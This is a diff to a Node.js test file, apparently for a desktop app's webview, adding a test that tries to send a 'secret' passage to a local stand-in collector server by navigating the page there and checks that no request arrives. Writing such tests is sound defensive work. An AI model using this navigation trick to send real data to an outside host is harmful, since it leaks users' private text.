@@ -5,6 +5,8 @@
 
 import { test } from "node:test";
 import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { sleep } from "./driver.mjs";
 import { launchWithTestModels } from "./helpers.mjs";
 
 /**
@@ -76,5 +78,30 @@ test("the webview cannot read, write or open files through the IPC", async () =>
     assert.match(stats, /"documents":0/, `nothing was indexed: ${stats}`);
   } finally {
     await session.close();
+  }
+});
+
+test("the page cannot navigate away to carry text off", async () => {
+  let requests = 0;
+  const server = createServer((req, res) => {
+    requests += 1;
+    res.end("stolen");
+  });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const url = `http://127.0.0.1:${server.address().port}/collect?passage=secret`;
+  const session = await launchWithTestModels();
+  try {
+    await session.waitFor('[data-testid="question-input"]');
+    await session.exec(`window.location.href = arguments[0];`, url);
+    await sleep(2000);
+    await session.exec(`window.location.assign(arguments[0]);`, url);
+    await sleep(2000);
+    assert.equal(requests, 0, "the page reached the other host");
+    const here = await session.exec(`return window.location.href;`);
+    assert.ok(!here.startsWith("http://127.0.0.1"), `the page is now at ${here}`);
+    await session.waitFor('[data-testid="question-input"]');
+  } finally {
+    await session.close();
+    server.close();
   }
 });
